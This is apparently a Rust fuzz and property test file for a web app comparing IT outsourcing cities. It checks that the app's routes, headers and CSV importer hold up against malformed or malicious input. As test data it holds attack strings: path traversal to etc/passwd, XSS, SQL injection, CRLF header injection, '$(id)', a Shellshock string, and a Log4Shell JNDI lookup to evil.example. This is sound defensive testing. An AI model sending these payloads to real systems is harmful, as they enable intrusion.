        a.status
    );
    if machine {
        if a.status >= 400 {
            prop_assert!(
                content_type.starts_with("application/json"),
                "GET {shown}: a {} on a machine-readable route must be JSON, got {content_type:?}: {short}",
                a.status
            );
            let v: serde_json::Value =
                serde_json::from_str(&body).map_err(|e| TestCaseError::fail(format!("GET {shown}: {e}: {short}")))?;
            prop_assert_eq!(v["error"]["status"].as_u64(), Some(u64::from(a.status)), "GET {}", shown);
            prop_assert!(v["error"]["message"].as_str().is_some_and(|m| !m.is_empty()), "GET {shown}: {short}");
        } else if content_type.starts_with("application/json") {
            serde_json::from_str::<serde_json::Value>(&body)
                .map_err(|e| TestCaseError::fail(format!("GET {shown}: {e}: {short}")))?;
        } else {
            prop_assert!(content_type.starts_with("text/csv"), "GET {shown}: {content_type:?}");
            let mut reader = csv::Reader::from_reader(body.as_bytes());
            let width = reader.headers().map_err(|e| TestCaseError::fail(format!("GET {shown}: {e}")))?.len();
            prop_assert!(width > 0, "GET {shown}: empty CSV header");
            for record in reader.records() {
                let record = record.map_err(|e| TestCaseError::fail(format!("GET {shown}: {e}")))?;
                prop_assert_eq!(record.len(), width, "GET {}", shown);
            }
        }
    } else {
        prop_assert!(
            content_type.starts_with("text/html"),
            "GET {shown}: a {} page must be HTML, got {content_type:?}: {short}",
            a.status
        );
        prop_assert!(body.starts_with("<!doctype html>"), "GET {shown}: {short}");
        prop_assert!(body.trim_end().ends_with("</html>"), "GET {shown}: incomplete page");
        let export = a.status == 200 && path == "/compare/export";
        inert(&format!("GET {shown}"), &body, usize::from(export)).map_err(TestCaseError::fail)?;
    }
    Ok(())
}

/// Raw fragments that are valid on the wire and known to upset servers.
const HOSTILE_FRAGMENTS: &str = "\
    %00 .. . ..%2f..%2fetc%2fpasswd %2e%2e%2f%2e%2e%2f ..%5c..%5cwindows %2F % %zz %4 \
    %E2%80%AE %EF%BB%BF %C0%AF %ED%A0%80 %F4%90%80%80 %FF%FE %F0%9F%92%A9 \
    %3Cscript%3Ealert(1)%3C%2Fscript%3E %22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(2)%3E \
    '%20OR%201=1-- %0D%0ASet-Cookie:%20x=1 javascript:alert(1) dalian.json dalian.csv .json \
    %2Ejson x.csv ~ $(id) * ; @ + =";

const KNOWN_VALUES: &str = "\
    dalian bangalore metro-manila silicon-valley london berlin bpo ito fintech log linear \
    population it_revenue_usd tholons_rank China Germany dalian-software-park \
    intheblack-dalian 1 2";

const NUMBERS: &str = "\
    0 -1 -0 +3 1.5 1e9 1e309 NaN inf 0x10 9223372036854775807 9223372036854775808 \
    -9223372036854775809 99999999999999999999999999999999999999 1000000000 1000000001";

fn words(list: &str) -> Vec<String> {
    list.split_whitespace().map(String::from).collect()
}

/// A value for a path segment or a query parameter, as it goes on the wire.
fn wire_value() -> impl Strategy<Value = String> {
    prop_oneof![
        4 => proptest::sample::select(words(KNOWN_VALUES)),
        2 => proptest::sample::select(words(NUMBERS)).prop_map(|n| pct(n.as_bytes())),
        3 => proptest::collection::vec(any::<u8>(), 0..48).prop_map(|b| pct(&b)),
        2 => any::<String>().prop_map(|s| pct(s.as_bytes())),
        3 => proptest::sample::select(words(HOSTILE_FRAGMENTS)),
        1 => (1usize..12_000, proptest::sample::select(vec!['a', '9', '-', '.', '_', '~']))
            .prop_map(|(n, c)| c.to_string().repeat(n)),
        1 => (1usize..3_000).prop_map(|n| "%FF".repeat(n)),
    ]
}

fn wire_key() -> impl Strategy<Value = String> {
    prop_oneof![
        6 => proptest::sample::select(vec![
            "city", "sector", "country", "page", "per_page", "metric", "scale", "park",
        ])
            .prop_map(String::from),
        2 => proptest::sample::select(vec![
            "sectr", "colour", "__proto__", "constructor", "city[]", "city[0]", "%63ity", "CITY", "city%00",
            "a%zz", "", "%", "page%20", "%20page", "utm_source",
        ])
        .prop_map(String::from),
        1 => wire_value(),
    ]
}

fn query_string() -> impl Strategy<Value = Option<String>> {
    let pair = (wire_key(), proptest::option::weighted(0.9, wire_value())).prop_map(|(k, v)| match v {
        Some(v) => format!("{k}={v}"),
        None => k,
    });
    prop_oneof![
        1 => Just(None),
        6 => proptest::collection::vec(pair, 0..8).prop_map(|pairs| Some(pairs.join("&"))),
        1 => (1usize..300, wire_value()).prop_map(|(n, v)| Some(vec![format!("city={v}"); n].join("&"))),
        1 => proptest::sample::select(vec!["&&&", "=", "==&=", "&city", "city=&city=", "page=&page", "?", "%26%3D"])
            .prop_map(|q| Some(q.to_string())),
    ]
}

/// A request target on one of the app's routes (or anywhere), with a hostile query.
fn request_target() -> impl Strategy<Value = String> {
    let fixed = proptest::sample::select(vec![
        "/",
        "/cities",
        "/cities.json",
        "/cities.csv",
        "/companies",
        "/compare",
        "/compare.json",
        "/compare.csv",
        "/compare/export",
        "/sources",
        "/changes",
    ])
    .prop_map(String::from);
    let with_segment = (
        proptest::sample::select(vec!["/cities/{}", "/cities/{}.json", "/cities/{}.csv", "/parks/{}", "/sources/{}"]),
        wire_value(),
    )
        .prop_map(|(route, seg)| route.replace("{}", &seg));
    let route_word =
        proptest::sample::select(words("cities parks compare sources companies changes admin cities.json compare.csv"));
    let anywhere =
        proptest::collection::vec(prop_oneof![3 => wire_value(), 1 => route_word, 1 => Just(String::new())], 0..5)
            .prop_map(|segs| format!("/{}", segs.join("/")));
    (prop_oneof![4 => fixed, 4 => with_segment, 2 => anywhere], query_string()).prop_map(|(path, query)| {
        let mut target = match query {
            Some(q) => format!("{path}?{q}"),
            None => path,
        };
        // Stay under the 64 KiB that HTTP libraries accept in a request line.
        while target.len() > 60_000 {
            target.truncate(target.len() / 2);
        }
        target
    })
}

fn runtime() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap()
}

/// `cases` random inputs per run; `HOSTILE_CASES=N cargo test --test hostile` runs N instead,
/// for a deeper search than CI's.
fn runner(cases: u32) -> TestRunner {
    let cases = std::env::var("HOSTILE_CASES").ok().and_then(|n| n.parse().ok()).unwrap_or(cases);
    TestRunner::new(Config { cases, failure_persistence: None, max_shrink_iters: 200, ..Config::default() })
}

#[test]
fn random_and_malicious_queries_and_paths_never_break_the_server() {
    let rt = runtime();
    let server = rt.block_on(TestServer::start());
    let addr = server.base.trim_start_matches("http://").to_string();
    let result = runner(128).run(&request_target(), |target| {
        let answer = rt.block_on(send(&addr, &target, &[], true)).map_err(TestCaseError::fail)?;
        check_answer(&target, &answer)
    });
    if let Err(e) = result {
        panic!("{e}");
    }
}

/// A header value as it can go on the wire: any byte but control characters (tab allowed).
fn header_value(max: usize) -> impl Strategy<Value = Raw> {
    prop_oneof![
        3 => proptest::collection::vec(prop_oneof![Just(b'\t'), 0x20u8..0x7f, 0x80u8..=0xff], 0..max),
        1 => (1..max.max(2)).prop_map(|n| b"a".repeat(n)),
        1 => proptest::sample::select(vec![
            &b"\"><script>alert(1)</script>"[..],
            b"en-US,en;q=0.9,*;q=-1,zz;q=NaN",
            b"W/\"\", *, \"\\\"",
            b"=; ==; a=b=c; \xff\xfe=\x80",
            b"() { :; }; echo vulnerable",
            b"${jndi:ldap://evil.example/a}",
            b"../../../../etc/passwd",
        ])
        .prop_map(<[u8]>::to_vec),
    ]
    .prop_map(Raw)
}

#[test]
fn random_and_malicious_headers_never_break_the_server() {
    let rt = runtime();
    let server = rt.block_on(TestServer::start());
    let addr = server.base.trim_start_matches("http://").to_string();
    let targets = vec![
        "/",
        "/cities?sector=bpo",
        "/cities/dalian",
        "/cities/dalian.json",
        "/cities.csv",
        "/companies?page=2",
        "/compare?city=dalian&city=berlin",
        "/compare.json?city=dalian&city=berlin",
        "/compare/export?city=dalian&city=berlin",
        "/parks/dalian-software-park",
        "/sources/intheblack-dalian",
    ];
    let host = prop_oneof![
        2 => Just(None),
        1 => Just(Some(Raw(Vec::new()))),
        3 => header_value(300).prop_map(Some),
        1 => proptest::sample::select(vec![
            &b"evil.example"[..], b"evil.example:99999", b"[::1", b"a b c", b"127.0.0.1:0@evil.example",
            b"localhost%00.evil", b"\xff\xfe",
        ])
        .prop_map(|h| Some(Raw(h.to_vec()))),
    ];
    let extra_name = "[A-Za-z0-9!#$%&'*+.^_`|~-]{1,24}".prop_filter("framing headers change the request", |n| {
        !matches!(
            n.to_ascii_lowercase().as_str(),
            "host" | "content-length" | "transfer-encoding" | "connection" | "expect" | "upgrade" | "te" | "trailer"
        )
    });
    let strategy = (
        proptest::sample::select(targets),
        host,
        proptest::option::of(header_value(16_000)),
        proptest::option::of(header_value(4_000)),
        proptest::option::of(header_value(2_000)),
        proptest::collection::vec((extra_name, header_value(500)), 0..6),
        any::<bool>(),
    );
    let result = runner(48).run(&strategy, |(target, host, language, cookie, etag, extra, twice)| {
        let mut headers: Vec<(String, Vec<u8>)> = Vec::new();
        let default_host = host.is_none();
        if let Some(Raw(h)) = host {
            headers.push(("Host".into(), h.clone()));
            if twice {
                headers.push(("Host".into(), h));
            }
        }
        if let Some(Raw(v)) = language {
            headers.push(("Accept-Language".into(), v));
        }
        if let Some(Raw(v)) = cookie {
            headers.push(("Cookie".into(), v));
        }
        if let Some(Raw(v)) = etag {
            headers.push(("If-None-Match".into(), v.clone()));
            headers.push(("If-Modified-Since".into(), v));
        }
        headers.extend(extra.into_iter().map(|(name, Raw(value))| (name, value)));
        let answer = rt.block_on(send(&addr, target, &headers, default_host)).map_err(TestCaseError::fail)?;
        prop_assert!(answer.status < 500, "GET {target}: {}: {}", answer.status, answer.text());
        // Headers are not part of what a page shows: the same answer as without them.
        prop_assert_eq!(answer.status, 200, "GET {}: {}", target, answer.text());
        check_answer(target, &answer)
    });
    if let Err(e) = result {
        panic!("{e}");
    }
}

#[tokio::test]
async fn an_address_past_the_length_limit_gets_the_sites_own_error_answers() {
    let s = TestServer::start().await;
    let addr = s.base.trim_start_matches("http://");
    let long = "a".repeat(5_000);
    // The answer's format is the one the route would have: a path that only looks like a
    // twin (`/cities.json/cities.json`, found by the random test above) is an unknown page.
    let targets = [
        format!("/cities?country={long}"),
        format!("/compare.json?city=dalian&city={long}"),
        format!("/companies.csv?q={long}"),
        format!("/cities/dalian%2Ejson?{long}"),
        format!("/cities.json/cities.json?city={long}"),
        format!("/cities/dalian/x.csv?{long}"),
        format!("/parks/x.json?{long}"),
    ];
    for target in targets {
        let answer = send(addr, &target, &[], true).await.unwrap();
        assert_eq!(answer.status, 414, "{}", answer.text());
        if let Err(e) = check_answer(&target, &answer) {
            panic!("{e}");
        }
    }
}

#[tokio::test]
async fn path_segments_that_are_not_utf8_get_the_sites_own_error_answers() {
    let s = TestServer::start().await;
    let addr = s.base.trim_start_matches("http://");
    for target in [
        "/cities/%FF",
        "/parks/%C3%28",
        "/sources/%80",
        "/cities/%FF.json",
        "/cities/%ED%A0%80.csv",
        "/cities/%FF%2Ejson",
    ] {
        let answer = send(addr, target, &[], true).await.unwrap();
        assert!(matches!(answer.status, 400 | 404), "{target}: {} {}", answer.status, answer.text());
        if let Err(e) = check_answer(target, &answer) {
            panic!("{e}");
        }
    }
}

// ---------------------------------------------------------------------------------------------
// 3. Malformed CSV

const METRICS_HEADER: &str = "city_slug,metric,year,value,unit,source_id,quote";

/// Imports `files` (raw bytes) into the bundled database: it must fail with exactly the
/// problems `expected` (each a prefix of one problem line, in order) and change nothing.
async fn assert_rejected(files: &[(&str, &[u8])], expected: &[&str]) -> Vec<String> {
    let (_dir, pool) = loaded_db().await;
    let before = snapshot(&pool).await;
    let folder = dataset(&[]);
    for (name, bytes) in files {
        std::fs::write(folder.path().join(name), bytes).unwrap();
    }
    let report = import_folder(&pool, folder.path()).await;
    let lines: Vec<String> = report.problems.iter().map(|p| p.to_string()).collect();
    assert!(!report.applied, "a dataset with problems must not be applied: {lines:#?}");
    assert_eq!(lines.len(), expected.len(), "exactly the expected problems: {lines:#?}");
    for (line, prefix) in lines.iter().zip(expected) {
        assert!(line.starts_with(prefix), "expected {prefix:?}, got {lines:#?}");
    }
    assert_eq!(snapshot(&pool).await, before, "a failed import must change nothing");
    lines
}

/// Imports `files` into the bundled database: it must apply without a problem.
async fn assert_applied(files: &[(&str, &[u8])]) -> (tempfile::TempDir, SqlitePool) {
    let (dir, pool) = loaded_db().await;
    let folder = dataset(&[]);
    for (name, bytes) in files {
        std::fs::write(folder.path().join(name), bytes).unwrap();
    }
    let report = import_folder(&pool, folder.path()).await;
    assert!(report.problems.is_empty(), "{:#?}", report.problems);
    assert!(report.applied);
    (dir, pool)
}

async fn metric_quotes(pool: &SqlitePool, year: i64) -> Vec<(String, String, f64)> {
    sqlx::query_as(
        "SELECT c.slug, m.quote, m.value FROM metrics m JOIN cities c ON c.id = m.city_id
         WHERE m.year = ? ORDER BY c.slug, m.metric",
    )
    .bind(year)
    .fetch_all(pool)
    .await
    .unwrap()
}

#[tokio::test]
async fn latin1_text_is_reported_at_the_field_or_header_that_is_not_utf8() {
    assert_rejected(
        &[
            ("cities.csv", b"slug,name,country,source_id\nmunich,M\xfcnchen,Germany,intheblack-dalian\n"),
            ("sources.csv", b"id,t\xeftle,publisher,url,accessed\ns1,T,P,https://example.org,2026-11-28\n"),
        ],
        &["sources.csv:1: (header): the header is not valid UTF-8 text", "cities.csv:2: name: is not valid UTF-8 text"],
    )
    .await;
}

/// `text` in UTF-16, little or big endian, with its byte-order mark.
fn utf16(text: &str, little_endian: bool) -> Vec<u8> {
    let mut out = if little_endian { vec![0xFF, 0xFE] } else { vec![0xFE, 0xFF] };
    for unit in text.encode_utf16() {
        out.extend_from_slice(&if little_endian { unit.to_le_bytes() } else { unit.to_be_bytes() });
    }
    out
}

#[tokio::test]
async fn utf16_files_are_reported_as_not_utf8_at_their_header() {
    let metrics = format!("{METRICS_HEADER}\r\ndalian,population,2040,1,persons,intheblack-dalian,q\r\n");
    assert_rejected(
        &[
            ("metrics.csv", &utf16(&metrics, true)),
            ("sectors.csv", &utf16("city_slug,sector,evidence_source_id,quote\n", false)),
        ],
        &[
            "sectors.csv:1: (header): the header is not valid UTF-8 text",
            "metrics.csv:1: (header): the header is not valid UTF-8 text",
        ],
    )
    .await;
    // Without a byte-order mark the NUL bytes are valid UTF-8: the header names are unknown.
    let bare: Vec<u8> = utf16(&metrics, true)[2..].to_vec();
    let (_dir, pool) = loaded_db().await;
    let before = snapshot(&pool).await;
    let folder = dataset(&[]);
    std::fs::write(folder.path().join("metrics.csv"), &bare).unwrap();
    let report = import_folder(&pool, folder.path()).await;
    assert!(!report.applied && !report.problems.is_empty());
    for p in &report.problems {
        assert_eq!((p.file.as_str(), p.line), ("metrics.csv", 1), "{p}");
        assert!(p.reason.contains("column"), "{p}");
    }
    assert_eq!(snapshot(&pool).await, before);
}

#[tokio::test]
async fn a_utf8_byte_order_mark_is_accepted() {
    let metrics =
        format!("\u{feff}{METRICS_HEADER}\r\ndalian,population,2040,1,persons,intheblack-dalian,with a BOM\r\n");
    let (_dir, pool) = assert_applied(&[("metrics.csv", metrics.as_bytes())]).await;
    assert_eq!(metric_quotes(&pool, 2040).await, [("dalian".to_string(), "with a BOM".to_string(), 1.0)]);
}

#[tokio::test]
async fn ragged_rows_with_too_few_or_too_many_fields_are_reported() {
    let metrics = format!(
        "{METRICS_HEADER}\n\
         dalian,population,2040,1,persons,intheblack-dalian\n\
         dalian,population,2041,1,persons,intheblack-dalian,q,extra\n\
         dalian\n\
         dalian,population,2042,1,persons,intheblack-dalian,fine\n"
    );
    assert_rejected(
        &[("metrics.csv", metrics.as_bytes())],
        &[
            "metrics.csv:2: (row): has 6 fields but the header has 7",
            "metrics.csv:3: (row): has 8 fields but the header has 7",
            "metrics.csv:4: (row): has 1 fields but the header has 7",
        ],
    )
    .await;
}

#[tokio::test]
async fn a_five_megabyte_quote_is_rejected_for_its_length() {
    let huge = "x".repeat(5 * 1024 * 1024);
    let metrics = format!("{METRICS_HEADER}\ndalian,population,2040,1,persons,intheblack-dalian,\"{huge}\"\n");
    assert_rejected(
        &[("metrics.csv", metrics.as_bytes())],
        &["metrics.csv:2: quote: is 5242880 bytes long; the limit is 4000"],
    )
    .await;
}

#[tokio::test]
async fn the_largest_finite_values_are_accepted_and_every_page_still_renders() {
    let metrics = format!(
        "{METRICS_HEADER}\n\
         dalian,it_revenue_usd,2040,1e308,USD,intheblack-dalian,huge\n\
         dalian,it_revenue_usd,2041,-1e308,USD,intheblack-dalian,hugely negative\n\
         bangalore,it_revenue_usd,2040,1.7976931348623157e308,USD,intheblack-dalian,the largest f64\n\
         dalian,it_employees,2040,-1.7976931348623157e308,persons,intheblack-dalian,the smallest f64\n\
         bangalore,it_employees,2040,5e-324,persons,intheblack-dalian,the least subnormal\n\
         dalian,tholons_rank,2040,1e308,rank,intheblack-dalian,a rank past the end\n\
         bangalore,tholons_rank,2040,-1e308,rank,intheblack-dalian,a rank before the start\n"
    );
    let (dir, pool) = assert_applied(&[("metrics.csv", metrics.as_bytes())]).await;
    let stored: Vec<(String, String, i64, f64)> = sqlx::query_as(
        "SELECT c.slug, m.metric, m.year, m.value FROM metrics m JOIN cities c ON c.id = m.city_id
         WHERE m.year >= 2040",
    )
    .fetch_all(&pool)
    .await
    .unwrap();
    let values: Vec<f64> = stored.iter().map(|(_, _, _, v)| *v).collect();
    assert_eq!(values.len(), 7, "{stored:?}");
    for v in [1e308, -1e308, f64::MAX, f64::MIN, 5e-324] {
        assert!(values.contains(&v), "{v:e} is stored exactly: {stored:?}");
    }
    let s = TestServer::serve(dir, pool).await;
    let both = "city=dalian&city=bangalore";
    for path in [
        format!("/?{both}"),
        format!("/?{both}&scale=log"),
        "/cities".to_string(),
        "/cities/dalian".to_string(),
        "/cities/bangalore".to_string(),
        format!("/compare?{both}"),
        format!("/compare?{both}&scale=log"),
        format!("/compare?{both}&metric=it_revenue_usd&metric=it_employees&metric=tholons_rank"),
        format!("/compare/export?{both}"),
        "/sources/intheblack-dalian".to_string(),
    ] {
        let r = s.get(&path).await;
        assert_eq!(r.status, 200, "{path}: {}", r.body);
        assert!(r.body.trim_end().ends_with("</html>"), "{path}");
        assert_svg_geometry_is_finite(&path, &r.body);
    }
    for path in [format!("/compare.json?{both}"), "/cities/dalian.json".to_string()] {
        let r = s.get(&path).await;
        assert_eq!(r.status, 200, "{path}");
        let v: serde_json::Value = serde_json::from_str(&r.body).unwrap();
        let figures = v["figures"].as_array().unwrap();
        assert!(
            figures.iter().all(|f| f["value"].as_f64().is_some_and(f64::is_finite)),
            "{path}: every value is a JSON number"
        );
        assert!(figures.iter().any(|f| f["value"].as_f64() == Some(1e308)), "{path}");
    }
    for path in [format!("/compare.csv?{both}"), "/cities/dalian.csv".to_string()] {
        let r = s.get(&path).await;
        assert_eq!(r.status, 200, "{path}");
        let (header, rows) = parse_safe_csv(&path, &r.body);
        let col = |name: &str| header.iter().position(|h| h == name).unwrap();
        let mut seen = 0;
        for row in rows.iter().filter(|r| r[col("year")] == "2040" || r[col("year")] == "2041") {
            let v: f64 = row[col("value")].parse().unwrap_or_else(|_| panic!("{path}: {row:?}"));
            let stored = stored
                .iter()
                .find(|(c, m, y, _)| {
                    *c == row[col("city")] && *m == row[col("metric")] && y.to_string() == row[col("year")]
                })
                .map(|(_, _, _, v)| *v)
                .unwrap();
            if stored.abs() >= 1.0 {
                assert!(((v - stored) / stored).abs() < 1e-9, "{path}: {row:?} should be {stored:e}");
                seen += 1;
            }
        }
        assert!(seen >= 3, "{path}: the huge figures are in the file");
    }
}

#[tokio::test]
async fn values_beyond_f64_or_not_plain_numbers_are_rejected_naming_the_value() {
    let bad = ["1e309", "-1e309", "10^308", "NaN", "inf", "-inf", "Infinity", "0x1p3", "\"1,5\"", "1e308e2"];
    let mut metrics = format!("{METRICS_HEADER}\n");
    for (i, v) in bad.iter().enumerate() {
        metrics.push_str(&format!("dalian,population,{},{v},persons,intheblack-dalian,q\n", 2040 + i));
    }
    let expected: Vec<String> = (0..bad.len()).map(|i| format!("metrics.csv:{}: value: ", i + 2)).collect();
    let expected: Vec<&str> = expected.iter().map(String::as_str).collect();
    let lines = assert_rejected(&[("metrics.csv", metrics.as_bytes())], &expected).await;
    for (line, v) in lines.iter().zip(bad) {
        let raw = v.trim_matches('"');
        assert!(line.contains(&format!("{raw:?}")), "the reason names the value: {line}");
    }
    assert!(lines[0].contains("not a finite number"), "{}", lines[0]);
    assert!(lines[2].contains("is not a number"), "{}", lines[2]);
}

#[tokio::test]
async fn duplicate_keys_are_rejected_at_the_repeat() {
    assert_rejected(
        &[
            (
                "sources.csv",
                b"id,title,publisher,url,accessed\n\
                  dup-src,T,P,https://example.org,2026-11-28\n\
                  dup-src,T2,P,https://example.org,2026-11-28\n",
            ),
            (
                "parks.csv",
                b"slug,city_slug,name,source_id,quote\n\
                  dup-park,dalian,P,intheblack-dalian,q\n\
                  other-park,dalian,P,intheblack-dalian,q\n\
                  dup-park,berlin,P,intheblack-dalian,q\n",
            ),
            (
                "sectors.csv",
                b"city_slug,sector,evidence_source_id,quote\n\
                  berlin,fintech,intheblack-dalian,q\n\
                  berlin,fintech,intheblack-dalian,q again\n",
            ),
        ],
        &[
            "sources.csv:3: id: duplicate key \"dup-src\": already on line 2",
            "parks.csv:4: slug: duplicate key \"dup-park\": already on line 2",
            "sectors.csv:3: sector: duplicate key \"berlin/fintech\": already on line 2",
        ],
    )
    .await;
}

#[tokio::test]
async fn an_unterminated_quoted_field_is_reported() {
    // At the very end of the file, and where it swallows the rows after it.
    let at_end = format!("{METRICS_HEADER}\ndalian,population,2040,1,persons,intheblack-dalian,\"never closed");
    let swallowing = format!(
        "{METRICS_HEADER}\n\
         dalian,population,2040,1,persons,intheblack-dalian,\"never closed\n\
         dalian,population,2041,2,persons,intheblack-dalian,a row of its own\n"
    );
    for file in [at_end, swallowing] {
        let (_dir, pool) = loaded_db().await;
        let before = snapshot(&pool).await;
        let folder = dataset(&[("metrics.csv", &file)]);
        let report = import_folder(&pool, folder.path()).await;
        let lines: Vec<String> = report.problems.iter().map(|p| p.to_string()).collect();
        assert!(
            !report.applied && lines.iter().any(|l| l.starts_with("metrics.csv:2: ")),
            "an unterminated quote on line 2 must be reported there, got {lines:?}; stored: {:?}",
            metric_quotes(&pool, 2040).await
        );
        assert_eq!(snapshot(&pool).await, before);
    }
}

#[tokio::test]
async fn a_binary_file_is_reported_at_its_header() {
    // A PNG signature, then noise.
    let mut binary = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut x: u32 = 0x1234_5678;
    for _ in 0..4096 {
        x ^= x << 13;
        x ^= x >> 17;
        x ^= x << 5;
        binary.push(x as u8);
    }
    assert_rejected(&[("metrics.csv", &binary)], &["metrics.csv:1: (header): the header is not valid UTF-8 text"])
        .await;
}

#[tokio::test]
async fn an_empty_file_is_reported() {
    assert_rejected(&[("cities.csv", b"")], &["cities.csv:1: (file): is empty: it needs at least a header row"]).await;
}

#[tokio::test]
async fn a_header_only_file_is_a_valid_import_of_zero_rows() {
    let (_dir, pool) = loaded_db().await;
    let before = snapshot(&pool).await;
    let folder = dataset(&[("metrics.csv", METRICS_HEADER), ("parks.csv", "slug,city_slug,name,source_id,quote\r\n")]);
    let report = import_folder(&pool, folder.path()).await;
    assert!(report.problems.is_empty(), "{:?}", report.problems);
    assert!(report.applied && !report.changes_anything());
    assert_eq!(report.files.len(), 2);
    assert!(report.files.iter().all(|f| f.rows == 0), "{:?}", report.files);
    assert_eq!(snapshot(&pool).await, before);
}

#[tokio::test]
async fn mixed_crlf_and_lf_line_ends_are_accepted() {
    let metrics = format!(
        "{METRICS_HEADER}\r\n\
         dalian,population,2040,1,persons,intheblack-dalian,crlf\r\n\
         bangalore,population,2040,2,persons,intheblack-dalian,lf\n\
         berlin,population,2040,3,persons,intheblack-dalian,\"quoted\r\nacross lines\"\n\
         london,population,2040,4,persons,intheblack-dalian,last without a line end"
    );
    let (_dir, pool) = assert_applied(&[("metrics.csv", metrics.as_bytes())]).await;
    let rows: Vec<(String, String)> = metric_quotes(&pool, 2040).await.into_iter().map(|(c, q, _)| (c, q)).collect();
    let expected = [
        ("bangalore", "lf"),
        ("berlin", "quoted\r\nacross lines"),
        ("dalian", "crlf"),
        ("london", "last without a line end"),
    ]
    .map(|(c, q)| (c.to_string(), q.to_string()));
    assert_eq!(rows, expected);
}

#[tokio::test]
async fn a_row_that_refers_to_a_row_rejected_in_the_same_import_reports_only_the_root_cause() {
    // The format has no self-references: files are read in a fixed order (sources, metric
    // definitions, cities, parks, companies, sectors, metrics), each referring only to files
    // before it. A chain city <- park <- company <- sector, metric whose first link fails is
    // reported once, at the city, and nothing of it is written.
    assert_rejected(
        &[
            ("cities.csv", b"slug,name,country,source_id\nchain-city,Chain,Nowhere,no-such-source\n"),
            ("parks.csv", b"slug,city_slug,name,source_id,quote\nchain-park,chain-city,Park,intheblack-dalian,q\n"),
            (
                "companies.csv",
                b"slug,name,city_slug,park_slug,sector,source_id,quote\n\
                  chain-co,Co,chain-city,chain-park,ito,intheblack-dalian,q\n",
            ),
            ("sectors.csv", b"city_slug,sector,evidence_source_id,quote\nchain-city,ito,intheblack-dalian,q\n"),
            (
                "metrics.csv",
                b"city_slug,metric,year,value,unit,source_id,quote\n\
                  chain-city,population,2040,1,persons,intheblack-dalian,q\n",
            ),
        ],
        &["cities.csv:2: source_id: unknown source \"no-such-source\""],
    )
    .await;
}

#[tokio::test]
async fn a_company_placed_in_a_new_park_of_another_new_city_is_rejected() {
    assert_rejected(
        &[
            (
                "cities.csv",
                b"slug,name,country,source_id\n\
                  east-city,East,Nowhere,intheblack-dalian\n\
                  west-city,West,Nowhere,intheblack-dalian\n",
            ),
            ("parks.csv", b"slug,city_slug,name,source_id,quote\neast-park,east-city,Park,intheblack-dalian,q\n"),
            (
                "companies.csv",
                b"slug,name,city_slug,park_slug,sector,source_id,quote\n\
                  ok-co,Co,east-city,east-park,ito,intheblack-dalian,q\n\
                  astray-co,Co,west-city,east-park,ito,intheblack-dalian,q\n",
            ),
        ],
        &["companies.csv:3: park_slug: park \"east-park\" is in another city than \"west-city\""],
    )
    .await;
}

/// A small valid metrics file the generated test mutates.
const VALID_METRICS: &str = "city_slug,metric,year,value,unit,source_id,quote\r\n\
    dalian,population,2040,1000,persons,intheblack-dalian,a quote\r\n\
    bangalore,it_companies,2040,12,count,intheblack-dalian,\"a \"\"quoted\"\", text\"\r\n\
    berlin,it_revenue_eur,2040,1.5e9,EUR,intheblack-dalian,q\r\n";

#[derive(Debug, Clone)]
enum Mutation {
    Flip(usize, u8),
    Insert(usize, Vec<u8>),
    Delete(usize, usize),
    Truncate(usize),
    DuplicateLine(usize),
}

fn mutate(mut bytes: Vec<u8>, mutations: &[Mutation]) -> Vec<u8> {
    for m in mutations {
        let at = |i: usize, len: usize| if len == 0 { 0 } else { i % (len + 1) };
        match m {
            Mutation::Flip(i, b) if !bytes.is_empty() => {
                let i = i % bytes.len();
                bytes[i] ^= b | 1;
            }
            Mutation::Flip(..) => {}
            Mutation::Insert(i, new) => {
                let i = at(*i, bytes.len());
                bytes.splice(i..i, new.iter().copied());
            }
            Mutation::Delete(i, n) => {
                let i = at(*i, bytes.len());
                let end = (i + n).min(bytes.len());
                bytes.drain(i..end);
            }
            Mutation::Truncate(i) => bytes.truncate(at(*i, bytes.len())),
            Mutation::DuplicateLine(n) => {
                let lines: Vec<&[u8]> = bytes.split_inclusive(|&b| b == b'\n').collect();
                if !lines.is_empty() {
                    let line = lines[n % lines.len()].to_vec();
                    bytes.extend_from_slice(&line);
                }
            }
        }
    }
    bytes
}

fn mutation() -> impl Strategy<Value = Mutation> {
    let token = prop_oneof![
        proptest::collection::vec(any::<u8>(), 1..8),
        proptest::sample::select(vec![
            &b"\""[..],
            b"\"\"",
            b",",
            b",,,",
            b"\r",
            b"\n",
            b"\r\n",
            b"\0",
            b"\xef\xbb\xbf",
            b"\xff",
            b"\xc3",
            b"NaN",
            b"1e309",
            b"-",
            b"dalian",
            b"atlantis",
            b"population",
            b"2040",
            b"  ",
            b"=HYPERLINK(\"x\")",
            b"<script>",
        ])
        .prop_map(<[u8]>::to_vec),
        (1usize..6000).prop_map(|n| b"x".repeat(n)),
    ];
    prop_oneof![
        3 => (any::<usize>(), any::<u8>()).prop_map(|(i, b)| Mutation::Flip(i, b)),
        4 => (any::<usize>(), token).prop_map(|(i, t)| Mutation::Insert(i, t)),
        2 => (any::<usize>(), 1usize..20).prop_map(|(i, n)| Mutation::Delete(i, n)),
        1 => any::<usize>().prop_map(Mutation::Truncate),
        1 => any::<usize>().prop_map(Mutation::DuplicateLine),
    ]
}

#[test]
fn random_bytes_and_mutations_of_a_metrics_file_never_crash_the_importer() {
    let rt = runtime();
    let file = prop_oneof![
        1 => proptest::collection::vec(any::<u8>(), 0..3000),
        4 => proptest::collection::vec(mutation(), 1..6).prop_map(|m| mutate(VALID_METRICS.as_bytes().to_vec(), &m)),
    ]
    .prop_map(Raw);
    let result = runner(32).run(&file, |Raw(bytes)| {
        rt.block_on(async {
            let (_dir, pool) = loaded_db().await;
            let before = snapshot(&pool).await;
            let folder = dataset(&[]);
            std::fs::write(folder.path().join("metrics.csv"), &bytes).unwrap();
            let report = import_folder(&pool, folder.path()).await;
            prop_assert_eq!(report.applied, report.problems.is_empty(), "{:?}", report.problems);
            let line_ends = bytes.iter().filter(|&&b| b == b'\n' || b == b'\r').count() as u64;
            for p in &report.problems {
                prop_assert_eq!(p.file.as_str(), "metrics.csv", "{}", p);
                prop_assert!(p.line >= 1 && p.line <= line_ends + 1, "{} (the file has {} line ends)", p, line_ends);
                prop_assert!(!p.reason.trim().is_empty(), "{}", p);
            }
            if !report.problems.is_empty() {
                prop_assert_eq!(snapshot(&pool).await, before, "a failed import must change nothing");
            }
            Ok(())
        })
    });
    if let Err(e) = result {
        panic!("{e}");
    }
}
